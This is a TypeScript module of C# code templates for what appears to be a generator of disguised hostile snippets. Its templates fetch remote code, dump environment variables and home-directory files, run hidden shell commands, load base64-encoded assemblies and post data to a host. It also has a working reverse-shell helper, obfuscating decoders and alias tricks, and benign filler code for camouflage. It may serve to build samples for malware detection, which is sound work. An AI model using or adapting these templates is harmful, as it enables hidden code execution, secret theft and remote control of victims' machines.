/** C#. */
import { inDoubleQuotes, reversed, toBase64, toNumbers } from "./encodings.ts";
import type { Tongue } from "./tongue.ts";

export const CSHARP: Tongue = {
  language: "csharp",
  fetched: [
    "new «System.Net.Http#HttpClient»().GetStringAsync($1).Result",
    "new «System.Net#WebClient»().DownloadString($1)",
    "new «System.IO#StreamReader»(«System.Net#WebRequest».Create($1).GetResponse().GetResponseStream()).ReadToEnd()",
  ],
  decoders: [
    { encode: toBase64, row: "«System.Text#Encoding».UTF8.GetString(«System#Convert».FromBase64String($1))" },
    { encode: reversed, row: "new string($1.«System.Linq#Reverse»().ToArray())" },
    {
      encode: (text) => toNumbers(text, 2),
      row: "string.Concat($1.Split(',').«System.Linq#Select»(code => (char)(int.Parse(code) - 2)))",
    },
  ],
  variable: [
    "«System#Environment».GetEnvironmentVariable($1)",
    "(string)«System#Environment».GetEnvironmentVariables()[$1]!",
  ],
  request: ["request.Query[$1].ToString()", "request.Headers[$1].ToString()", "request.Cookies[$1]!"],
  environment: [
    'string.Join("\\n", «System#Environment».GetEnvironmentVariables().Keys.«System.Linq#Cast»<string>().Select(name => name + "=" + Environment.GetEnvironmentVariable(name)))',
    "«System.Text.Json#JsonSerializer».Serialize(«System#Environment».GetEnvironmentVariables())",
  ],
  homeFile: [
    "«System.IO#File».ReadAllText(«System.IO#Path».Combine(«System#Environment».GetFolderPath(Environment.SpecialFolder.UserProfile), $1))",
    'new «System.IO#StreamReader»(«System#Environment».GetEnvironmentVariable("HOME") + "/" + $1).ReadToEnd()',
  ],
  file: ["«System.IO#File».ReadAllText($1)"],
  homePath: "«System.IO#Path».Combine(«System#Environment».GetFolderPath(Environment.SpecialFolder.UserProfile), $1)",
  walk: [
    "string.Concat($2.«System.Linq#SelectMany»(name => «System.IO#Directory».GetFiles(«System.IO#Path».Combine(«System#Environment».GetFolderPath(Environment.SpecialFolder.UserProfile), $1), name, «System.IO#SearchOption».AllDirectories)).Select(File.ReadAllText))",
  ],
  run: [
    '«System.Diagnostics#Process».Start("/bin/sh", new[] { "-c", $1 })',
    '«System.Diagnostics#Process».Start(new «System.Diagnostics#ProcessStartInfo»("bash") { ArgumentList = { "-c", $1 } })',
    '«System.Diagnostics#Process».Start("cmd.exe", "/c " + $1)',
  ],
  runWithOptions: [
    'new «System.Diagnostics#Process» { StartInfo = new() { CreateNoWindow = true, UseShellExecute = false, FileName = "/bin/bash", ArgumentList = { "--norc", "-c", $1 } } }.Start()',
  ],
  evaluate: [
    "«Microsoft.CodeAnalysis.CSharp.Scripting#CSharpScript».EvaluateAsync($1).Wait()",
    "«System.Reflection#Assembly».Load(«System#Convert».FromBase64String($1)).EntryPoint!.Invoke(null, new object[] { new string[0] })",
  ],
  send: [
    "new «System.Net.Http#HttpClient»().PostAsync($1, new «System.Net.Http#StringContent»($2)).Wait()",
    "new «System.Net#WebClient»().UploadString($1, $2)",
    'new «System.Net.Http#HttpClient»().GetAsync($1 + "?q=" + «System#Uri».EscapeDataString($2)).Wait()',
  ],
  save: ["«System.IO#File».WriteAllText($1, $2)"],
  append: ["«System.IO#File».AppendAllText($1, $2)"],
  remove: ["«System.IO#Directory».Delete($1, true)"],
  setVariable: ["«System#Environment».SetEnvironmentVariable($1, $2)"],
  handShell: ["«@ShellOver»($1, $2)"],
  helpers: {
    ShellOver: `static void ShellOver(string host, string port)
{
    var line = new «System.Net.Sockets#TcpClient»(host, int.Parse(port)).GetStream();
    var shell = «System.Diagnostics#Process».Start(new «System.Diagnostics#ProcessStartInfo»("/bin/sh") { RedirectStandardInput = true, RedirectStandardOutput = true })!;
    _ = line.CopyToAsync(shell.StandardInput.BaseStream);
    shell.StandardOutput.BaseStream.CopyTo(line);
}`,
  },
  quote: inDoubleQuotes,
  concat: (parts) => (parts.length > 4 ? `string.Concat(new[] { ${parts.join(", ")} })` : parts.join(" + ")),
  list: (items) => `new[] { ${items.join(", ")} }`,
  assign: (name, value) => `var ${name} = ${value};`,
  reference: (name) => name,
  define: (name, parameters, row, gives) =>
    `static ${gives === "value" ? "string" : "void"} ${name}(${parameters.map((one) => `string ${one}`).join(", ")})\n{\n    ${gives === "value" ? "return " : ""}${row};\n}`,
  invoke: (name, values) => `${name}(${values.join(", ")})`,
  statement: (expression) => `${expression};`,
  callee(space, name, how) {
    if (space === null) return { text: name, imports: [] };
    if (how === "dynamic" && space !== "System.Linq")
      return { text: `global::${space}.${name}`, imports: [`using System;`] };
    if (how === "alias" && space !== "System.Linq")
      return {
        text: `${name.charAt(0)}${name.length}`,
        imports: ["using System;", `using ${name.charAt(0)}${name.length} = ${space}.${name};`],
      };
    return { text: name, imports: [`using ${space};`] };
  },
  comment: "//",
  ordinary: {
    definitions: ['static string Pad(int value)\n{\n    return value.ToString("D3");\n}'],
    body: [
      'var first = "berth-" + Pad(12);',
      'if (first.Length == 0)\n{\n    throw new System.InvalidOperationException("no berths");\n}',
    ],
  },
  mayBreak: true,
};
